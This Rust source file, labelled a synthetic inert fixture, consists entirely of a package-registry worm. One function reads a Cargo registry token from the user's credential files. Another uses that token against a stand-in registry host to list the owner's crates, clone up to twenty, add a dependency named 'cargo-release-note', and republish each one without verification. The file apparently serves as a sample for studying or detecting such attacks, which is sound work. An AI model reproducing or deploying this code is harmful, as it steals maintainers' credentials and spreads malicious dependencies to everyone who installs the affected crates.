// Synthetic, inert fixture written from public reports; see README
use std::{env, fs, path::PathBuf, process::Command};

fn token() -> Option<String> {
    let home = env::var_os("CARGO_HOME").map(PathBuf::from).or_else(|| env::var_os("HOME").map(|h| PathBuf::from(h).join(".cargo")))?;
    fs::read_dir(home).ok()?.flatten().find_map(|e| {
        let text = fs::read_to_string(e.path()).ok()?;
        Some(text.split("ken = \"").nth(1)?.split('"').next()?.to_owned())
    })
}

pub(crate) fn spread() -> Option<()> {
    let token = token()?;
    let me: serde_json::Value =
        ureq::get("https://registry.example.invalid/api/v1/me/crates").set("Authorization", &token).call().ok()?.into_json().ok()?;
    for item in me["crates"].as_array()?.iter().take(20) {
        let name = item["name"].as_str()?;
        let dir = PathBuf::from("target").join(name);
        Command::new("cargo").args(["clone", name, "--"]).arg(&dir).status().ok()?;
        Command::new("cargo").current_dir(&dir).args(["add", "cargo-release-note"]).status().ok()?;
        Command::new("cargo").current_dir(&dir).args(["publish", "--no-verify", "--allow-dirty", "--token", &token]).status().ok()?;
    }
    Some(())
}
